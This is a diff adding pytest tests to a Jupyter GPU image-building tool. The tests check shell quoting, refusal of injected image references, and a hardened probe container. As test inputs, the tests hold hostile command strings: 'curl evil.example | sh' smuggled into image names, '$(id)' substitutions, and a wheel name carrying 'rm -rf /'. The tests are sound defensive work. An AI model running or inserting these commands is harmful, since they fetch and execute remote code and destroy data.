@@ -1,9 +1,12 @@
 from __future__ import annotations
 
+import shlex
+
 import pytest
 
-from jupyter_gpuspawn import __version__
-from jupyter_gpuspawn.images import (ENTRYPOINT, assess_labels, build_command, dockerfile, version_mismatch)
+from jupyter_gpuspawn import __version__, cli, images
+from jupyter_gpuspawn.images import (ENTRYPOINT, assess_labels, build_command, check_image_reference, dockerfile,
+                                     probe_singleuser, version_mismatch)
 
 
 @pytest.mark.parametrize("base", ["continuumio/miniconda3:24.7.1-0", "nvcr.io/nvidia/pytorch:24.08-py3",
@@ -68,3 +71,121 @@ def test_slow_iri_validator_is_dropped_from_the_venv_unless_kept():
     assert "/opt/jupyter-gpuspawn/*) if [ \"1\" = 0 ]" in kept
     # only the venv's copy is ever removed; a base's own copy is reported, never touched
     assert "note: the base's own rfc3987-syntax" in default
+
+
+def test_build_command_quotes_what_it_prints():
+    hostile = "local/x:1; curl evil.example | sh"
+    command = build_command(hostile)
+    assert shlex.split(command) == ["jupyter-gpuspawn", "build-image", "--base", hostile,
+                                    "--tag", "local/x-hub:1; curl evil.example | sh"]
+    assert command.startswith("jupyter-gpuspawn build-image --base 'local/x:1; curl evil.example | sh' --tag ")
+    digest = "nvcr.io/nvidia/pytorch@sha256:" + "a" * 64
+    assert shlex.split(build_command(digest))[-1] == "local/pytorch-hub:latest"
+
+
+GOOD_BASES = ["python:3.12-slim", "nvcr.io/nvidia/pytorch:24.08-py3", "localhost:5000/team/img:1.0",
+              "continuumio/miniconda3:24.7.1-0", "nvidia/cuda:12.4.1-runtime-ubuntu22.04", "ubuntu",
+              "local/base:bookworm", "my-registry.example.com/a/b__c/d-e:latest",
+              "python@sha256:" + "0123456789abcdef" * 4, "quay.io/jupyter/base-notebook:2024-12-02@sha256:" + "f" * 64]
+BAD_BASES = ["python:3.12\nRUN curl evil.example | sh", "python:3.12\r\nUSER root", "python:3.12 AS builder",
+             "", " python", "python:3.12 ", "Python:3.12", "$(id)", "python:`id`", 'python:3"; echo x; "',
+             "--network=host", "python:3.12#x", "python:" + "t" * 200, "pythön:3", "a//b", "python:3.12\x00",
+             "${BASE}", "python@sha256:abc"]
+
+
+@pytest.mark.parametrize("base", GOOD_BASES)
+def test_image_references_are_accepted(base):
+    assert check_image_reference(base) == base
+    assert dockerfile(base, "6.1.1", wheel_name="w.whl").splitlines()[1] == f"FROM {base}"
+
+
+@pytest.mark.parametrize("base", BAD_BASES)
+def test_bases_that_are_not_image_references_are_refused(base, monkeypatch, capsys):
+    with pytest.raises(ValueError, match="is not an image reference"):
+        dockerfile(base, "6.1.1", wheel_name="w.whl")
+
+    def never(*args, **kwargs):
+        raise AssertionError("nothing may be built or run for a bad base")
+
+    monkeypatch.setattr(images, "build_wheel", never)
+    monkeypatch.setattr(images.subprocess, "Popen", never)
+    with pytest.raises(ValueError, match="is not an image reference"):
+        images.build_image(base, "local/x:1")
+    for extra in (["--tag", "local/x:1"], ["--dockerfile-only"]):
+        assert cli.main(["build-image", f"--base={base}"] + extra) == 2
+        out, err = capsys.readouterr()
+        assert out == "" and err.startswith("error: --base ") and err.count("\n") == 1, err
+        assert "Traceback" not in err and "is not an image reference" in err
+
+
+def test_dockerfile_refuses_odd_wheel_names_and_versions():
+    with pytest.raises(ValueError):
+        dockerfile("python:3.12", "6.1.1", wheel_name="w.whl; rm -rf /")
+    with pytest.raises(ValueError):
+        dockerfile("python:3.12", "6.1.1\nRUN x", wheel_name="w.whl")
+
+
+class RecordingClient:
+    """The docker-py APIClient calls probe_singleuser makes, recorded; host configs are built by the real
+    docker-py (so the kwargs must be ones it accepts), nothing reaches an engine."""
+
+    def __init__(self, start_error=None, wait_error=None, status=0):
+        import docker
+
+        self.real = docker.APIClient(base_url="unix:///nonexistent.sock", version="1.41")
+        self.start_error, self.wait_error, self.status = start_error, wait_error, status
+        self.calls = []
+
+    def create_host_config(self, **kwargs):
+        return self.real.create_host_config(**kwargs)
+
+    def create_container(self, image, **kwargs):
+        self.calls.append(("create", image, kwargs))
+        return {"Id": "probe1"}
+
+    def start(self, container):
+        self.calls.append(("start", container))
+        if self.start_error:
+            raise self.start_error
+
+    def wait(self, container, timeout=None):
+        self.calls.append(("wait", container))
+        if self.wait_error:
+            raise self.wait_error
+        return {"StatusCode": self.status}
+
+    def remove_container(self, container, force=False):
+        self.calls.append(("remove", container, force))
+
+
+def test_the_image_probe_runs_hardened():
+    client = RecordingClient()
+    assert probe_singleuser(client, "local/unknown:1") is True
+    [create, start, wait, remove] = client.calls
+    _, image, kwargs = create
+    assert image == "local/unknown:1"
+    assert kwargs["user"] == "65534:65534"
+    assert kwargs["environment"] == {"NVIDIA_VISIBLE_DEVICES": "void"}
+    assert kwargs["network_disabled"] is True
+    host = kwargs["host_config"]
+    assert host["CapDrop"] == ["ALL"]
+    assert host["SecurityOpt"] == ["no-new-privileges:true"]
+    assert host["Memory"] == 256 * 1024**2
+    assert host["PidsLimit"] == 64
+    assert host["NetworkMode"] == "none"
+    assert not host.get("Privileged") and not host.get("DeviceRequests") and not host.get("Binds")
+    assert remove == ("remove", "probe1", True)
+
+
+@pytest.mark.parametrize("failure", ["start", "wait", "status"])
+def test_the_image_probe_container_is_removed_however_it_ends(failure):
+    import docker
+
+    client = RecordingClient(
+        start_error=docker.errors.APIError("cannot start: exec format error") if failure == "start" else None,
+        wait_error=TimeoutError("read timed out") if failure == "wait" else None,
+        status=127 if failure == "status" else 0,
+    )
+    assert probe_singleuser(client, "local/broken:1") is False
+    assert client.calls[-1] == ("remove", "probe1", True)
+    assert [c[0] for c in client.calls].count("remove") == 1
